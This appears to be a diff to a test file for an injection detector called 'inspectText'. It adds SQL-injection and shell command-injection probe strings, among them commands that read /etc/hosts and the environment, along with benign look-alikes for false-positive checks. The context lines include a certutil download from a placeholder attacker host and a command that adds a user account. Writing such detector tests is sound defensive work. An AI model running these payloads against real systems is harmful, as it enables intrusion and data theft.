@@ -25,6 +25,10 @@ const ATTACKS: Readonly<Record<ThreatCategory, readonly string[]>> = {
     "x' || (select secret from people limit 1) || '",
     '-3 order by 12--',
     "x' having 4=4--",
+    '2*2=4--',
+    '2*2=4 or 5>3',
+    '2*(3=3 or 4>3)=1',
+    '1*if(2=2,3,4)=3',
   ],
   nosql: [
     '{"$ne": null}',
@@ -69,6 +73,12 @@ const ATTACKS: Readonly<Record<ThreatCategory, readonly string[]>> = {
     'w^h^o^a^m^i',
     '& net user mallory Secret1 /add',
     'certutil -urlcache -f http://evil.example/x x',
+    '127.0.0.1; date',
+    'x;date',
+    'x | sort /etc/hosts',
+    'x | perl -e "1"',
+    'note; env',
+    '{cat,/etc/hosts}',
   ],
   code: [
     '<?php echo 1; ?>',
@@ -186,6 +196,15 @@ const HARMLESS = [
   'Coffee & net user growth: up 4-fold',
   'bash - a shell, node - a runtime',
   'see section (b) (c) or (d:e)',
+  '2+2=4',
+  '3*(4+5) = 27, 12 / 4 = 3',
+  '2^3=8; 10-3 = 7',
+  'Name; Date; Host',
+  'Python | Perl | Ruby',
+  'R; Python; Java',
+  'File | Edit | View | Help',
+  'date; time',
+  '{cat,dog} or {host,port}',
 ];
 
 describe('inspectText', () => {
